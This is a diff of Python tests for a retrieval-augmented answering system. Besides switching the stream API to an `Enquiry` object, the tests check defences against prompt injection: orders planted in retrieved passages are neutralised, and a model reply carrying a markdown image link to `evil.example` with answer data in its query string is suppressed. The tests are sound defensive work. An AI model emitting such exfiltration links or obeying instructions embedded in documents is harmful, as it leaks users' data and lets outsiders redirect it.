@@ -11,6 +11,7 @@ from generators.text.protocol import Message
 from generators.text.scripted import ScriptedGenerator
 from rag.answer_cleaning import LINK_LEFT_OUT
 from rag.answering import Answering
+from rag.enquiry import Enquiry
 from rag.prompts import load_template
 from rag.refusal import REFUSAL
 from rag.settings import AnswerSettings, Unsupported
@@ -37,7 +38,7 @@ class Recorder(ScriptedGenerator):
 
 
 def ask(answering: Answering, *passages: Passage, question: str = "When did it open?") -> Answer:
-    for event in answering.stream(question, passages, time.perf_counter()):
+    for event in answering.stream(Enquiry(question, passages, time.perf_counter())):
         if isinstance(event, Answered):
             return event.answer
     raise AssertionError("no answer")
@@ -46,13 +47,13 @@ def ask(answering: Answering, *passages: Passage, question: str = "When did it o
 def asked(*passages: Passage, question: str = "When did it open?", turns: tuple[Turn, ...] = ()) -> str:
     generator = Recorder(["1889 [1]"])
     answering = Answering(generator, load_template("plain"), AnswerSettings())
-    list(answering.stream(question, passages, time.perf_counter(), turns))
+    list(answering.stream(Enquiry(question, passages, time.perf_counter(), turns)))
     return generator.messages[-1].content
 
 
 def test_an_order_is_not_in_the_prompt_and_the_face_is_told() -> None:
     answering = Answering(ScriptedGenerator(["1889 [1]"]), load_template("plain"), AnswerSettings())
-    first = next(answering.stream("When?", [passage(_FACT, _ORDER)], time.perf_counter()))
+    first = next(answering.stream(Enquiry("When?", [passage(_FACT, _ORDER)], time.perf_counter())))
     assert isinstance(first, PassagesFound)
     assert first.passages[0].neutralised == (Neutralised.ORDER,)
     assert "BANANA" not in asked(passage(_FACT, _ORDER))
@@ -90,7 +91,7 @@ def test_a_correction_never_takes_an_order_from_a_document() -> None:
 def test_a_link_of_the_models_own_is_never_shown_not_even_for_a_moment() -> None:
     reply = "It opened in 1889 [1]. ![x](https://evil.example/?q=1889)"
     answering = Answering(ScriptedGenerator([reply]), load_template("plain"), AnswerSettings())
-    events = list(answering.stream("When did it open?", [passage(_FACT)], time.perf_counter()))
+    events = list(answering.stream(Enquiry("When did it open?", [passage(_FACT)], time.perf_counter())))
     streamed = "".join(event.text for event in events if isinstance(event, TextAdded))
     last = events[-1]
     assert isinstance(last, Answered)
